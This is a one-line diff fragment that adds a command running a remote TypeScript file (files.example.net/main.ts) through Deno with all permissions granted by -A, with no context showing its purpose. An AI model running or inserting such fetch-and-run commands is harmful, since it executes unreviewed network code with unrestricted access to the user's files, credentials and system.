@@ -1,0 +1,1 @@
+deno run -A https://files.example.net/main.ts
